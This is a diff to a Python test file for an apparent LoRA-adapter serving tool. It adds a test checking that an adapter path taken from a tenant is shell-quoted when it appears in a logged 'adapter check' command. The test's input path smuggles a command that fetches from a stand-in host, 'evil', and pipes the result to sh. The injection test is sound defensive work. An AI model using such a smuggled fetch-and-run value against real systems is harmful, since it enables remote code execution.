@@ -47,7 +47,7 @@ LINE = (
     "patchkit LoRA torch path: adapter 'poison-shared' (id 2): layer 1 "
     "mlp.shared_expert.down_proj lora_B has non-finite values (3 inf); its requests get "
     "NaN, other requests are not affected; check it with "
-    "`patchkit adapter check '/adapters/poison-shared'`"
+    "`patchkit adapter check /adapters/poison-shared`"
 )
 
 
@@ -157,6 +157,24 @@ def shared_expert_poison() -> dict:
 
 def quarantine_lines(caplog) -> list[str]:
     return [r.getMessage() for r in caplog.records if "patchkit LoRA torch path" in r.getMessage()]
+
+
+@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
+def test_the_logged_command_takes_a_tenants_path_as_one_shell_word(served, caplog):
+    """lora_path comes from whoever called /v1/load_lora_adapter: pasted from the log,
+    the command must not run what the path holds."""
+    import shlex
+
+    version, manager, worker = served
+    manager.register(2, shared_expert_poison())
+    hostile = types.SimpleNamespace(lora_name="poison-shared", lora_int_id=2,
+                                    lora_path="/srv/x;curl${IFS}evil|sh;#",
+                                    load_inplace=False)  # fmt: skip
+    with caplog.at_level(logging.WARNING):
+        worker.add_adapter(hostile)
+    [line] = quarantine_lines(caplog)
+    command = line.rsplit("`", 2)[1]
+    assert shlex.split(command) == ["patchkit", "adapter", "check", hostile.lora_path]
 
 
 @pytest.mark.parametrize("served", FAMILIES, indirect=True)
